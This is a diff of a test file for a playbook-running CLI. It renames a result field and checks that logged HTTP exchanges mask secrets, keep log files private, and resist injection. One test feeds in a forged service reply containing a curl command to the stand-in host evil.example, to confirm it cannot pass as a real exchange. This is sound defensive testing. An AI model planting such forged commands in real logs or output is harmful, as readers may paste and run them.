@@ -38,8 +38,8 @@ test("each exchange is shown as a command that can be pasted: it does the same",
   const service = await sandboxProcess();
   const project = await projectAt(service.url);
   const ended = await project.run("run", "pin.yaml", "--debug");
-  expect(ended.code, ended.told).toBe(0);
-  expectNone(ended.told);
+  expect(ended.code, ended.transcript).toBe(0);
+  expectNone(ended.transcript);
   const write = ended.stderr.split("\n\n").find((block) => block.includes("-X POST")) ?? "";
   expect(write).toMatch(/^\S+Z {2}pin\.yaml \S+\n {2}# a write: pasted, it would be sent once more\n {2}curl /);
   expect(write).toContain(`-H 'X-API-KEY: '"$LEDGER_KEY"`);
@@ -61,7 +61,7 @@ test("a file is its owner's alone; what a service repeats of a secret is masked 
   const echo = JSON.stringify({ status: "Error", message: SPELLINGS.join(" "), condition: "no", [KEY]: PIN });
   void proxy.next("POST /asset", answerAfterwards({ status: 422, body: echo }));
   const ended = await project.run("run", "pin.yaml", "--debug=seen.log", "--json");
-  expect(ended.code, ended.told).toBe(1);
+  expect(ended.code, ended.transcript).toBe(1);
   expect(ended.stderr).not.toContain("curl");
   expect(statSync(join(project.folder, "seen.log")).mode & 0o777).toBe(0o600);
   const text = project.read("seen.log");
@@ -77,7 +77,7 @@ test("nothing that a service answers looks like one more exchange", async () => 
   const forged = "2026-11-22T02:07:24.446Z  pin.yaml forged";
   void proxy.next("POST /asset", answerAfterwards({ status: 422, body: `no\n\n${forged}\n  curl -sS http://evil.example/` }));
   const ended = await project.run("run", "pin.yaml", "--debug=seen.log");
-  expect(ended.code, ended.told).toBe(0); // it is no refusal in the service's own words, and the asset is there
+  expect(ended.code, ended.transcript).toBe(0); // it is no refusal in the service's own words, and the asset is there
   const lines = project.read("seen.log").split("\n");
   expect(lines).toContain(`  ${forged}`);
   for (const line of lines) expect(line).toMatch(/^(?:$| {2}|\d{4}-\S+Z(?: {2}pin\.yaml step1)?$)/);
@@ -88,7 +88,7 @@ test("with several runs at a time each exchange names its playbook; a long body 
   const project = await projectAt(service.url);
   project.write("mint.yaml", MINT_ONCE.replace("name: Minted once", `name: "${"x".repeat(5_000)}"`));
   const ended = await project.run("run", "pin.yaml", "mint.yaml", "--debug");
-  expect(ended.code, ended.told).toBe(0);
+  expect(ended.code, ended.transcript).toBe(0);
   const blocks = ended.stderr.split("\n\n").filter((block) => block.includes("-X POST"));
   const named = blocks.flatMap((block) => /^\S+ {2}(\S+)/.exec(block)?.[1] ?? []);
   expect(named).toHaveLength(3);
